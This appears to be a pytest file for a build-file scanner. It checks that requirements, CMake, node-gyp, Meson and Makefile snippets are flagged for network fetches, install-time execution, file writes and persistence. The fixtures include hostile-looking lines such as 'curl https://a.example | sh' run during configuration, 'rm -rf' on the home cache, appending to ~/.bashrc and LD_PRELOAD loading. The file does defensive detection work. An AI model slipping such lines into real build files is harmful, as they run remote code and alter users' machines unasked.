"""Files of builders and installers: what they run, fetch and write before anybody calls anything."""

from __future__ import annotations

import pytest

from plugseal.lang.classify import READ, classify
from plugseal.lang.facts import Context, FileFacts, Interest
from plugseal.lang.recipes.reader import RECIPES, RecipeReader
from plugseal.scan.nested import read_nested
from plugseal.scan.workers.on_demand import WorkersOnDemand


def _read(path: str, text: str) -> FileFacts:
    verdict = classify(path, text.encode())
    assert verdict.action == READ, verdict
    assert verdict.language in RECIPES, verdict
    return RecipeReader(verdict.language).read(text.encode(), Context(path, Interest()))


def _said(path: str, text: str) -> set[tuple[str, str | None]]:
    facts = _read(path, text)
    with WorkersOnDemand() as workers:
        inside = [
            one for _, found in read_nested(facts, Context(path, Interest()), workers=workers) for one in found.facts
        ]
    return {(fact.capability, fact.object) for fact in (*facts.facts, *inside)}


_DOES: dict[str, tuple[str, str, set[tuple[str, str | None]]]] = {
    "requirements: a repository that may be edited": (
        "requirements.txt",
        "-e git+https://a.example/team/tool.git@v1#egg=known\n",
        {
            ("net.outbound", "a.example"),
            ("code.fetched", "git+https://a.example/team/tool.git@v1#egg=known"),
            ("autorun", "git+https://a.example/team/tool.git@v1#egg=known"),
            ("code.obfuscated", "known"),
        },
    ),
    "requirements: an archive under a name": (
        "requirements/dev.txt",
        "tool @ https://a.example/tool-1.0.zip\n",
        {("net.outbound", "a.example"), ("autorun", "https://a.example/tool-1.0.zip")},
    ),
    "requirements: another registry beside the usual one": (
        "dev-requirements.txt",
        "--extra-index-url https://a.example/simple\ninner\n",
        {("net.outbound", "a.example"), ("autorun", "https://a.example/simple")},
    ),
    "requirements: an option with an equals sign, and a login from the environment": (
        "requirements.in",
        "--index-url=https://u:${TOKEN}@a.example/simple\n",
        {("net.outbound", "a.example"), ("env.read", "TOKEN")},
    ),
    "requirements: a list outside": (
        "requirements.txt",
        "-r ../shared.txt\n",
        {("path.outside", "../shared.txt"), ("fs.read", "../shared.txt"), ("autorun", "../shared.txt")},
    ),
    "requirements: a list elsewhere": (
        "constraints.txt",
        "-chttps://a.example/c.txt\n",
        {("net.outbound", "a.example"), ("code.fetched", "https://a.example/c.txt")},
    ),
    "requirements: a folder outside": ("a/requirements.txt", "-e ../../x\n", {("path.outside", "../../x")}),
    "requirements: archives of this machine": (
        "requirements.txt",
        "-f /srv/wheels\n",
        {("path.outside", "/srv/wheels")},
    ),
    "requirements: continued": (
        "requirements.txt",
        "--index-url \\\n  https://a.example/\n",
        {("net.outbound", "a.example")},
    ),
    "requirements: nothing that is built before": ("requirements.txt", "--no-binary :all:\n", {("autorun", ":all:")}),
    "CMake: a program while it configures": (
        "CMakeLists.txt",
        'execute_process(COMMAND\n  sh -c "curl https://a.example | sh" OUTPUT_VARIABLE x)\n',
        {("process.exec", "sh"), ("net.outbound", "a.example"), ("autorun", "sh")},
    ),
    "CMake: a program by a variable": (
        "cmake/tool.cmake",
        "set(TOOL wget)\nEXECUTE_PROCESS(COMMAND ${TOOL} https://a.example)\n",
        {("process.exec", "wget"), ("net.outbound", "a.example")},
    ),
    "CMake: a target of every build": (
        "CMakeLists.txt",
        "add_custom_target(x ALL COMMAND rm -rf $ENV{HOME}/.cache)\n",
        {("process.exec", "rm"), ("autorun", "rm"), ("env.read", "HOME")},
    ),
    "CMake: code that an install runs": (
        "CMakeLists.txt",
        'install(CODE "execute_process(COMMAND make-me)")\n',
        {("process.exec", "make-me"), ("autorun", "make-me")},
    ),
    "CMake: a project that is fetched": (
        "CMakeLists.txt",
        "FetchContent_Declare(x GIT_REPOSITORY https://a.example/x.git GIT_TAG main)\n",
        {("net.outbound", "a.example"), ("code.fetched", "https://a.example/x.git")},
    ),
    "CMake: a project with its own commands": (
        "CMakeLists.txt",
        'ExternalProject_Add(x URL https://a.example/x.tgz CONFIGURE_COMMAND "" BUILD_COMMAND build-me)\n',
        {("net.outbound", "a.example"), ("process.exec", "build-me")},
    ),
    "CMake: a package in short": ("CMakeLists.txt", 'CPMAddPackage("gh:a/b@1.0")\n', {("net.outbound", "github.com")}),
    "CMake: a download": (
        "CMakeLists.txt",
        "file(DOWNLOAD https://a.example/x /opt/x)\n",
        {("net.outbound", "a.example"), ("fs.write", "/opt/x"), ("path.outside", "/opt/x")},
    ),
    "CMake: what starts with a session": (
        "CMakeLists.txt",
        'file(APPEND "$ENV{HOME}/.bashrc" "x")\n',
        {("fs.write", "~/.bashrc"), ("persistence", "~/.bashrc")},
    ),
    "CMake: code of a text": ("CMakeLists.txt", 'cmake_language(EVAL CODE "${x}")\n', {("code.dynamic", None)}),
    "node-gyp: a line while it is read": (
        "binding.gyp",
        "{'targets': [{'target_name': 'x', 'sources': ['<!(curl https://a.example)']}]}  # a note\n",
        {("process.shell", "curl"), ("net.outbound", "a.example"), ("autorun", "curl"), ("code.native", "x")},
    ),
    "node-gyp: a harmless word is a shell's line too": (
        "binding.gyp",
        "{'variables': {'v': '<!@(echo 1)'}}",
        {("process.shell", "echo"), ("autorun", "echo")},
    ),
    "node-gyp: an action": (
        "deps/x.gypi",
        "{'actions': [{'action_name': 'a', 'inputs': [], 'outputs': [], 'action': ['make-me', '<(x)']}]}",
        {("process.exec", "make-me"), ("autorun", "make-me")},
    ),
    "Meson: a program while it configures": (
        "meson.build",
        "r = run_command('sh', '-c', 'curl https://a.example', check: true)\n",
        {("process.exec", "sh"), ("net.outbound", "a.example"), ("autorun", "sh")},
    ),
    "Meson: a program that was found before": (
        "meson.build",
        "p = find_program('wget')\ncustom_target('t', output: 'x', command: [p, 'https://a.example', '@OUTPUT@'])\n",
        {("process.exec", "wget"), ("net.outbound", "a.example")},
    ),
    "Meson: a script of the install": (
        "meson.build",
        "meson.add_install_script('make-me')\n",
        {("process.exec", "make-me"), ("autorun", "make-me")},
    ),
    "Meson: a project that is fetched": (
        "subprojects/x.wrap",
        "[wrap-git]\nurl = https://a.example/x.git\n",
        {("net.outbound", "a.example"), ("code.fetched", "https://a.example/x.git")},
    ),
    "make: a line while it is read": ("Makefile", "X := $(shell echo 1)\n", {("process.shell", "echo")}),
    "make: a library that make loads": ("Makefile", "load ./x.so\n", {("code.native", "./x.so")}),
    "make: a file outside": ("Makefile", "include ../../x.mk\n", {("path.outside", "../../x.mk")}),
    "make: a file that make writes": ("Makefile", "X := $(file >/opt/x,1)\n", {("fs.write", "/opt/x")}),
    "make: a variable that loads code": (
        "Makefile",
        "export LD_PRELOAD := ./x.so\n",
        {("env.write", "LD_PRELOAD"), ("code.native", "LD_PRELOAD")},
    ),
    "make: code of another language": ("Makefile", 'X := $(guile (system "x"))\n', {("code.dynamic", None)}),
}


@pytest.mark.parametrize(("path", "text", "expected"), _DOES.values(), ids=_DOES)
def test_a_build_does_what_its_files_say(path: str, text: str, expected: set[tuple[str, str | None]]) -> None:
    assert expected <= _said(path, text)


_SILENT: dict[str, tuple[str, str]] = {
    "requirements of the usual registry": (
        "requirements.txt",
        "# -e git+https://a.example/x\nrequests>=2 ; python_version > '3'\nnumpy==1.0 --hash=sha256:ab\n",
    ),
    "a list beside it, and the project itself": ("requirements/dev.txt", "-r base.txt\n-c ../constraints.txt\n-e .\n"),
    "prose under that name": ("requirements.txt", "Requirements\n\n- a shell with curl\n- run the installer\n"),
    "comments of CMake": (
        "CMakeLists.txt",
        "# execute_process(COMMAND a)\n#[[ execute_process(COMMAND a)\n]]\n#[=[ execute_process(COMMAND a) ]=]\n",
    ),
    "texts of CMake": (
        "CMakeLists.txt",
        'message("execute_process(COMMAND rm)")\nset(x [[execute_process(COMMAND a)]])\n',
    ),
    "a plain build": ("CMakeLists.txt", "project(x)\nadd_library(x x.c)\ntarget_link_libraries(x m)\n"),
    "an archive of the project": ("CMakeLists.txt", "FetchContent_Declare(x URL third_party/x.zip)\n"),
    "a condition of CMake": ("CMakeLists.txt", "if(COMMAND execute_process)\nendif()\n"),
    "comments and texts of Meson": (
        "meson.build",
        "# run_command('a')\nmessage('run_command(\\'a\\')')\nx = '''run_command('a')'''\n",
    ),
    "comments of make": ("Makefile", "# X := $(shell curl https://a.example)\nX := 1 # $(shell rm)\n"),
    "comments of node-gyp": ("binding.gyp", "{ # '<!(rm)'\n}"),
}


@pytest.mark.parametrize(("path", "text"), _SILENT.values(), ids=_SILENT)
def test_what_only_looks_like_it_is_silent(path: str, text: str) -> None:
    assert _said(path, text) == set()


def test_what_nobody_calls_runs_at_install_and_the_rest_when_it_is_called() -> None:
    facts = _read("CMakeLists.txt", "add_custom_target(a COMMAND x)\nadd_custom_target(b ALL COMMAND y)\n")
    assert [(one.text, one.trigger) for one in facts.nested] == [("x", "command"), ("y", "install")]


def test_a_place_in_a_line_counts_characters() -> None:
    facts = _read("binding.gyp", "{'ä': '<!(a)'}")
    assert {fact.span.column for fact in facts.facts} == {7}


@pytest.mark.parametrize("language", RECIPES)
def test_any_text_is_read_to_its_end(language: str) -> None:
    for text in (
        "run_command(" * 3_000,
        "\t$(shell " * 3_000,
        "",
        "\n" * 9,
        "(" * 5_000,
        "'" * 999,
        '"',
        "a(" * 2_000,
        "#[[",
        "-r",
        "\\",
        "$(",
        "x = [",
        "\t\\\n",
    ):
        assert RecipeReader(language).read(text.encode(), Context("x", Interest())).language == language
